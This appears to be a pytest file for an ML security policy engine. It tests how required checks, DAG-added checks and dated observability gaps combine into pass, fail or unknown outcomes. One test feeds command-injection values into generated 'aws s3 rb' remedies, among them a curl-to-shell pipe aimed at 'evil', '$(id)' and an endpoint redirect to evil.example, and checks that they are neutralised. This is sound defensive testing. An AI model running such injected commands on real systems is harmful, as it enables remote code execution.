"""The policy says which answers may block; a DAG can only add."""

from __future__ import annotations

from datetime import date
from typing import Any

import pytest

from airflow_mlsecops.core.aws import AwsFacts, Operation, Shape
from airflow_mlsecops.core.check import Answer, Check
from airflow_mlsecops.core.environment import Environment, NotObservable
from airflow_mlsecops.core.facts import Facts
from airflow_mlsecops.core.finding import Finding, Severity, Status
from airflow_mlsecops.core.judge_isolation import judge_isolation, wanted
from airflow_mlsecops.core.verdict import Outcome, outcome_of
from tests.core.make import policy

TODAY = date(2026, 11, 23)


def check(name: str, status: Status) -> Check:
    return Check(
        id=name, question="?", why="w", remedy="r", severity=Severity.HIGH, standards=(),
        ask=lambda _facts, _demand: Answer(status=status, subject="s", reason="because"),
    )  # fmt: skip


CHECKS = {
    name: check(name, Status(name.lower().replace("_", " "))) for name in ("PASS", "FAIL", "UNKNOWN", "NOT_APPLICABLE")
}


def judged(environment: str = "prod", also: tuple[str, ...] = (), **profile: Any) -> tuple[Finding, ...]:
    said = policy(environments={"prod": Environment(**profile)})
    return judge_isolation(Facts(), environment=environment, policy=said, checks=CHECKS, today=TODAY, also=also)


def gap(until: date) -> NotObservable:
    return NotObservable(check="UNKNOWN", reason="no permission yet", until=until)


TABLE = [
    ("what is required passes", {"requires": ("PASS",)}, Outcome.PASS),
    ("what is not required may fail", {"requires": ("PASS", "NOT_APPLICABLE")}, Outcome.PASS),
    ("a required failure", {"requires": ("PASS", "FAIL")}, Outcome.FAIL),
    ("a required unknown", {"requires": ("PASS", "UNKNOWN")}, Outcome.UNKNOWN),
    ("the DAG adds one", {"requires": ("PASS",), "also": ("FAIL",)}, Outcome.FAIL),
    ("nothing required", {}, Outcome.UNKNOWN),
    ("only what does not apply is required", {"requires": ("NOT_APPLICABLE",)}, Outcome.UNKNOWN),
    ("a check nobody has", {"requires": ("PASS", "WORMHOLE")}, Outcome.UNKNOWN),
    ("a gap accepted until a day", {"requires": ("PASS", "UNKNOWN"), "not_observable": (gap(TODAY),)}, Outcome.PASS),
    ("a gap whose day has passed", {"requires": ("PASS", "UNKNOWN"), "not_observable": (gap(date(2026, 11, 22)),)},
     Outcome.UNKNOWN),
    ("a gap whose day has passed beside one that is accepted anew",
     {"requires": ("PASS", "UNKNOWN"), "not_observable": (gap(date(2026, 11, 22)), gap(TODAY))}, Outcome.PASS),
    ("a glob means all that fit it", {"requires": ("*A*",)}, Outcome.FAIL),
    ("a glob that fits nothing", {"requires": ("PASS", "S3_*")}, Outcome.UNKNOWN),
    ("no such environment", {"environment": "dev", "requires": ("PASS",)}, Outcome.FAIL),
]  # fmt: skip


@pytest.mark.parametrize(("given", "outcome"), [row[1:] for row in TABLE], ids=[row[0] for row in TABLE])
def test_judgement(given: dict[str, Any], outcome: Outcome) -> None:
    assert outcome_of(judged(**given)) is outcome


def test_a_gap_never_excuses_a_failure() -> None:
    excused = NotObservable(check="FAIL", reason="x", until=TODAY)
    assert outcome_of(judged(requires=("FAIL",), not_observable=(excused,))) is Outcome.FAIL


def test_every_answer_is_told_and_its_rule_named() -> None:
    findings = judged(requires=("PASS",))
    assert {finding.code for finding in findings} == set(CHECKS)
    assert {finding.rule for finding in findings} == {"policy.yaml:40"}


LIST_KEYS = Operation(service="kms", name="list_keys", shape=Shape, action="kms:ListKeys")


def asking(name: str, *, of_the_task: bool = False) -> Check:
    def ask(facts: Facts, _demand: object) -> Answer:
        assert isinstance(facts.aws, AwsFacts)
        facts.aws.need(LIST_KEYS, Limit=len(name))
        return Answer(status=Status.PASS, subject="s", reason="because")

    return Check(
        id=name, question="?", why="w", remedy="r", severity=Severity.HIGH, standards=(), ask=ask,
        reads=(LIST_KEYS,), of_the_task=of_the_task,
    )  # fmt: skip


COSTLY = {
    **CHECKS,
    "AWS": asking("AWS"),
    "AWS_TASK": asking("AWS_TASK", of_the_task=True),
    "TRIES": Check(
        id="TRIES", question="?", why="w", remedy="r", severity=Severity.HIGH, standards=(), probes=True,
        ask=lambda _facts, _demand: Answer(status=Status.PASS, subject="s", reason="because"),
    ),
}  # fmt: skip


def codes(requires: tuple[str, ...], **given: Any) -> set[str]:
    said = policy(environments={"prod": Environment(requires=requires)})
    findings = judge_isolation(
        Facts(aws=AwsFacts()), environment="prod", policy=said, checks=COSTLY, today=TODAY, **given
    )
    return {finding.code for finding in findings}


def wants(requires: tuple[str, ...], facts: AwsFacts | None = None, **given: Any) -> list[str]:
    said = policy(environments={"prod": Environment(requires=requires)})
    calls = wanted(Facts(aws=facts or AwsFacts()), environment="prod", policy=said, checks=COSTLY, **given)
    return [call.key for call in calls]


def test_what_costs_something_is_asked_where_it_is_required() -> None:
    assert codes(("PASS",)) == set(CHECKS)
    assert codes(("PASS", "TRIES")) == {*CHECKS, "TRIES"}
    assert codes(("PASS",), also=("AWS",)) == {*CHECKS, "AWS"}
    assert wants(("PASS",)) == []


def test_calls_are_wanted_by_what_is_required_and_by_what_the_dag_adds() -> None:
    assert wants(("AWS*",)) == ["kms.list_keys Limit=3", "kms.list_keys Limit=8"]
    assert wants(("PASS",), also=("AWS",)) == ["kms.list_keys Limit=3"]
    known = AwsFacts.model_validate({"answers": {"kms.list_keys Limit=3": {"answer": {}}}})
    assert wants(("AWS*",), known) == ["kms.list_keys Limit=8"]


def test_a_seal_asks_again_what_is_of_the_task_and_nothing_else() -> None:
    assert codes(("*",), of_the_task=True) == {"AWS_TASK"}
    assert wants(("*",), of_the_task=True) == ["kms.list_keys Limit=8"]


@pytest.mark.parametrize(
    ("subject", "remedy"),
    [
        ("ml-prod", "aws s3 rb s3://ml-prod"),
        ("x; curl evil | sh", "aws s3 rb s3://<its name>"),
        ("$(id)", "aws s3 rb s3://<its name>"),
        ("x --endpoint-url=http://evil.example", "aws s3 rb s3://<its name>"),
        ("ml-prod, ml-logs", "aws s3 rb s3://ml-prod,ml-logs"),
        ("fail", "aws s3 rb s3://<its name>"),  # the check itself: its question ended before it came to a resource
    ],
)
def test_a_remedy_names_the_resource_unless_a_shell_would_run_its_name(subject: str, remedy: str) -> None:
    failing = Check(
        id="FAIL", question="?", why="w", remedy="aws s3 rb s3://{subject}", severity=Severity.HIGH, standards=(),
        ask=lambda _facts, _demand: Answer(status=Status.FAIL, subject=subject, reason="because"),
    )  # fmt: skip
    said = policy(environments={"prod": Environment(requires=("FAIL",))})
    (finding,) = judge_isolation(Facts(), environment="prod", policy=said, checks={"FAIL": failing}, today=TODAY)
    assert finding.remedy == remedy


def test_a_check_that_says_nothing_lets_nothing_through() -> None:
    silent = Check(
        id="SILENT", question="?", why="w", remedy="r", severity=Severity.HIGH, standards=(),
        ask=lambda _facts, _demand: (),
    )  # fmt: skip
    said = policy(environments={"prod": Environment(requires=("SILENT",))})
    (finding,) = judge_isolation(Facts(), environment="prod", policy=said, checks={"SILENT": silent}, today=TODAY)
    assert (finding.status, finding.required) == (Status.UNKNOWN, True)
